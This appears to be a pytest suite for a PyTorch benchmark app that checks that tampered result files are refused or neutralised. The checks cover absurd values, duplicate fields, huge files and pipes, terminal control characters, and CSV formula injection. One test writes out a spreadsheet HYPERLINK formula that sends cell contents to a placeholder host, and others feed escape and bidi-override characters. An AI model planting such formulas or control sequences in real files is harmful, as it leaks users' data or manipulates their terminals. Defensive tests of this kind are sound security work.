"""Files that were made, or changed, by somebody who means no good: refused with the place, or read safely."""

import csv
import io
import os
import time
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

import msgspec
import pytest

from app.engine.errors import describe
from app.export import comparison_csv, csv_file, json_file
from app.export.saved_contenders import read_contenders
from app.export.saved_result import ReadError, read_result
from app.export.spreadsheet import FORMULAS_BEGIN_WITH, as_text
from app.history.journal import JOURNAL, Journal
from app.history.recorder import RESULT
from app.history.store import ABOUT, Store
from app.model.plan import make_plan
from app.model.plan_bounds import MAX_ADDED_CELLS, MAX_CELLS, MAX_SAMPLED_MINUTES
from app.model.result import Result
from app.model.result_file import MOST_BYTES, NoResult, decode_result
from app.model.texts import LONGEST_NAME
from app.runner.diagnosis import explain_error
from app.stats.comparison import compare
from tests.charts.rich import rich_plan, rich_result, sustained_result
from tests.scripted import M5_PRO, opening, plan_of, whole_run

RESULT_OF_RUN = whole_run(plan_of(), failing=(3,))
RICH = json_file.encode(rich_result(rich_plan(("resnet18",), (64,))))
Key = str | int


def changed(value: object, *keys: Key) -> bytes:
    """A rich result with something else at one place of its result."""
    content = msgspec.json.decode(RICH)
    holder: Any = content["result"]
    for key in keys[:-1]:
        holder = holder[key]
    holder[keys[-1]] = value
    return msgspec.json.encode(content)


@pytest.mark.parametrize("value", [-1, 0, 10**9, 2**63, 10**30, 1.5, "4", None, [4]])
def test_that_a_plan_of_absurd_batches_is_refused_with_the_place(value: object) -> None:
    with pytest.raises(NoResult, match=r"damaged at result\.plan\.batch_sizes\[0\]\. Open another copy"):
        decode_result(changed([value], "plan", "batch_sizes"))


@pytest.mark.parametrize(
    ("value", "keys"),
    [
        (0, ("cells", 0, "windows", 2, "steps")),
        (0.0, ("cells", 0, "windows", 2, "duration_s")),
        (5e-324, ("cells", 0, "windows", 2, "duration_s")),
        (1e300, ("cells", 0, "windows", 2, "duration_s")),
        (-1.0, ("cells", 0, "windows", 2, "at_s")),
        (-1, ("cells", 0, "peak_memory_bytes")),
        (2**60, ("cells", 0, "flops_per_step")),
        (-1, ("cells", 0, "phases", "steps")),
        (-0.1, ("cells", 0, "phases", "sync_s")),
        (0, ("links", 0, "images")),
        (0.0, ("limits", 0, "matmuls", 0, "duration_s")),
        (-1e9, ("parities", 0, "as_used", "logits", "device_error")),
        (1e300, ("parities", 0, "device_losses", 0)),
        (-1, ("machine", "memory_bytes")),
        (10**18, ("machine", "cpu_cores")),
        (-1, ("software", "cpu_threads")),
        (-1, ("plan", "timing", "min_windows")),
    ],
)
def test_that_numbers_that_no_machine_has_are_refused_with_the_place(
    value: object, keys: Sequence[Key]
) -> None:
    place = "result" + "".join(f"[{key}]" if isinstance(key, int) else f".{key}" for key in keys)
    with pytest.raises(NoResult) as refused:
        decode_result(changed(value, *keys))
    assert f"damaged at {place}." in str(refused.value)


@pytest.mark.parametrize(
    "keys",
    [
        ("machine", "chip"),
        ("machine", "os_version"),
        ("software", "torch"),
        ("devices", 0, "hardware"),
        ("plan", "preset"),
        ("app_version",),
        ("started_at",),
    ],
)
def test_that_names_as_long_as_books_are_refused_before_they_are_drawn(keys: Sequence[Key]) -> None:
    place = "result" + "".join(f"[{key}]" if isinstance(key, int) else f".{key}" for key in keys)
    decode_result(changed("\u00e9" * LONGEST_NAME, *keys))
    with pytest.raises(NoResult) as refused:
        decode_result(changed("\u00e9" * (LONGEST_NAME + 1), *keys))
    assert f"damaged at {place}." in str(refused.value)


def test_that_an_error_of_megabytes_leaves_a_result_that_is_read_again(tmp_path: Path) -> None:
    raised = describe(RuntimeError("size mismatch " * 500_000))
    failed = whole_run(plan_of(), failing=(3,))
    cells = [
        cell if cell.failure is None else msgspec.structs.replace(cell, failure=explain_error(raised, "out"))
        for cell in failed.cells
    ]
    path = tmp_path / "result.json"
    path.write_bytes(json_file.encode(msgspec.structs.replace(failed, cells=tuple(cells))))
    (failure,) = [cell.failure for cell in read_result(path).cells if cell.failure]
    assert failure.reason.startswith("RuntimeError: size mismatch size")
    assert failure.reason.endswith("…")


@pytest.mark.parametrize("number", [b"NaN", b"Infinity", b"-Infinity", b"1e999", b"01", b"0x10"])
def test_that_numbers_that_json_has_not_are_refused(number: bytes) -> None:
    with pytest.raises(NoResult, match=r"damaged"):
        decode_result(RICH.replace(b'"duration_s": ', b'"duration_s": ' + number + b" ", 1))


def test_that_a_plan_of_a_million_cells_is_refused_before_one_is_made() -> None:
    content = msgspec.json.decode(RICH)
    content["result"]["plan"] |= {"models": ["resnet18"] * 1000, "batch_sizes": [1] * 1000}
    began_s = time.process_time()
    with pytest.raises(NoResult, match=r"damaged at result\.plan\.") as refused:
        decode_result(msgspec.json.encode(content))
    assert time.process_time() - began_s < 1
    assert f"for {MAX_CELLS} cells at most" in refused.value.details
    sizes = tuple(range(1, 400))
    with pytest.raises(ValueError, match=f"for {MAX_CELLS} cells at most"):
        make_plan(preset="quick", devices=("cpu",), batch_sizes=sizes)


def test_that_so_are_cells_that_were_added_without_end() -> None:
    content = msgspec.json.decode(RICH)
    cells = [content["result"]["cells"][0]["cell"]] * (MAX_ADDED_CELLS + 1)
    content["result"]["plan"] |= {"added": [cells]}
    with pytest.raises(NoResult, match=r"damaged at result\.plan\."):
        decode_result(msgspec.json.encode(content))


@pytest.mark.parametrize("value", [-1.0, 1e300])
def test_that_sleep_has_its_bounds_too(value: float) -> None:
    discarded = {"what": "window", "steps": 1, "duration_s": 0.1, "slept_s": value}
    with pytest.raises(NoResult, match=r"damaged at result\.cells\[0\]\.discarded\[0\]\.slept_s\."):
        decode_result(changed([discarded], "cells", 0, "discarded"))
    with pytest.raises(NoResult, match=r"damaged at result\.sleeps\[0\]\.slept_s\."):
        decode_result(changed([{"noticed_at": "2026-11-29", "slept_s": value}], "sleeps"))


def test_that_the_longest_sustained_run_can_be_read_back() -> None:
    minutes = 20.0
    result = sustained_result(minutes)
    size_bytes = len(json_file.encode(result)) / (minutes * len(result.cells)) * MAX_SAMPLED_MINUTES
    assert 0.5 * MOST_BYTES < size_bytes < MOST_BYTES
    with pytest.raises(ValueError, match="48 hours in all"):
        make_plan(preset="sustained", devices=("cpu", "mps"), batch_sizes=(1, 2), sustained_minutes=24 * 60.0)


@pytest.mark.parametrize("field", ["format", "version", "result", "run_id", "batch_size", "steps"])
def test_that_a_field_that_stands_twice_is_refused_by_its_name(field: str) -> None:
    content = msgspec.json.decode(RICH)
    value = msgspec.json.encode(content.get(field, 4 if field in ("batch_size", "steps") else "x"))
    name = f'"{field}":'.encode()
    twice = msgspec.json.encode(content).replace(name, name + value + b"," + name, 1)
    with pytest.raises(NoResult, match=f"the field '{field}' stands in it twice"):
        decode_result(twice)


def test_that_figures_are_never_made_anything_of(tmp_path: Path) -> None:
    content = {**msgspec.json.decode(RICH), "figures": [[[{"surprise": "=1+1"}]], 7]}
    assert decode_result(msgspec.json.encode(content)) == decode_result(RICH)
    content["figures"] = 7
    with pytest.raises(NoResult, match="damaged at figures"):
        decode_result(msgspec.json.encode(content))


# --- files that are no files


def refusal(path: Path) -> str:
    with pytest.raises(ReadError) as refused:
        read_result(path)
    return str(refused.value)


def test_that_a_huge_file_is_refused_by_its_size_without_being_read(tmp_path: Path) -> None:
    path = tmp_path / "video.torchmark"
    path.touch()
    os.truncate(path, 10**12)
    assert refusal(path) == (
        "It is no Torchmark result: it has 1000000.0 MB, and nothing of its kind has more than 32 MB. "
        "Open another file."
    )
    assert read_contenders([path])[1][0].reason == refusal(path)


@pytest.mark.timeout(20)
def test_that_a_pipe_and_a_device_are_refused_without_waiting(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "a.torchmark")
    for path in (tmp_path / "a.torchmark", Path("/dev/zero")):
        assert refusal(path) == "It cannot be read: it is no ordinary file. Is it still where it was?"


@pytest.mark.timeout(20)
def test_that_a_history_of_such_files_is_listed(tmp_path: Path) -> None:
    store = Store(tmp_path, tmp_path / "cache")
    for name in ("huge", "pipe", "huge journal"):
        store.folder(name).mkdir(parents=True)
    for path in (store.folder("huge") / RESULT, store.folder("huge journal") / JOURNAL):
        path.touch()
        os.truncate(path, 10**12)
    os.mkfifo(store.folder("pipe") / ABOUT)
    with_plan = Journal(store.folder("pipe") / JOURNAL)
    for event in opening(plan_of()):
        with_plan.write(event)
    with_plan.close()
    os.mkfifo(tmp_path / "cache")
    problems = {entry.name: entry.problem for entry in store.entries()}
    assert "has 1000000.0 MB" in problems["huge"]
    assert "Its journal cannot be read: it has 1000000.0 MB" in problems["huge journal"]
    assert problems["pipe"] == ""


# --- texts


def named(text: str) -> Result:
    machine = msgspec.structs.replace(M5_PRO, chip=text, model=text, os_name=text)
    return msgspec.structs.replace(RESULT_OF_RUN, machine=machine, run_id=text, app_version=text)


@pytest.mark.parametrize(
    ("control", "is_replaced"),
    [
        *((chr(code), True) for code in (0, 7, 8, 11, 12, 27, 0x7F, 0x85, 0x9B, 0x202E, 0x2066)),
        *((text, False) for text in ("\t", "\n", "é", "한", "·", "\u2011", "\\u001b", "\\\\u009b", '"\\"')),
    ],
)
def test_that_characters_that_command_a_terminal_are_replaced(control: str, is_replaced: bool) -> None:
    text = f"a{control}b"
    for encode in (msgspec.json.encode, _as_ascii):
        content = {"format": "torchmark-result", "version": 2, "result": msgspec.to_builtins(named(text))}
        read = decode_result(encode(content))
        assert read.machine.chip == (text.replace(control, "\ufffd") if is_replaced else text)


def _as_ascii(content: object) -> bytes:
    import json

    return json.dumps(content).encode()


@pytest.mark.parametrize("begin", FORMULAS_BEGIN_WITH)
def test_that_no_name_in_a_table_is_a_formula(begin: str) -> None:
    formula = f'{begin}HYPERLINK("http://x.invalid/?"&A1)'
    other = msgspec.structs.replace(named(formula), run_id="another")
    assert as_text(formula) == f"'{formula}"
    tables: dict[str, Callable[[], bytes]] = {
        "of a result": lambda: csv_file.encode(named(formula)),
        "of a comparison": lambda: comparison_csv.encode(
            compare([contender(RESULT_OF_RUN), contender(other)])
        ),
    }
    for kind, encode in tables.items():
        fields = [field for row in csv.reader(io.StringIO(encode().decode(), newline="")) for field in row]
        assert not [field for field in fields if is_formula(field)], kind
        assert any("HYPERLINK" in field for field in fields), kind


@pytest.mark.parametrize("between", [";", ";  ", "\t"])
def test_that_none_is_one_where_the_cells_are_divided_otherwise(between: str) -> None:
    assert as_text(f"AMD{between}=1+1") == f"AMD{between[0]}'{between[1:]}=1+1"
    assert as_text(" =1+1") == "' =1+1"
    assert as_text("Core; 8 cores\tM5") == "Core; 8 cores\tM5"


def contender(result: Result) -> Any:
    from app.stats.contender import measured

    return measured(result)


def is_formula(field: str) -> bool:
    try:
        float(field)
    except ValueError:
        return field.startswith(FORMULAS_BEGIN_WITH)
    return False


def test_that_numbers_below_zero_stay_numbers_in_a_table() -> None:
    cell = msgspec.structs.replace(RESULT_OF_RUN.cells[0], swap_grown_bytes=-4096)
    result = msgspec.structs.replace(RESULT_OF_RUN, cells=(cell, *RESULT_OF_RUN.cells[1:]))
    row = next(csv.DictReader(io.StringIO(csv_file.encode(result).decode(), newline="")))
    assert row["swap_grown_bytes"] == "-4096"
    assert row["machine"] == "MacBook Pro"


def test_that_a_file_that_is_refused_is_closed(tmp_path: Path) -> None:
    def open_files() -> int:
        return sum(1 for _ in Path("/dev/fd").iterdir())

    os.mkfifo(tmp_path / "pipe")
    (tmp_path / "huge").touch()
    os.truncate(tmp_path / "huge", 10**12)
    before = open_files()
    for path in (tmp_path, tmp_path / "pipe", tmp_path / "huge", tmp_path / "gone"):
        refusal(path)
    assert open_files() == before
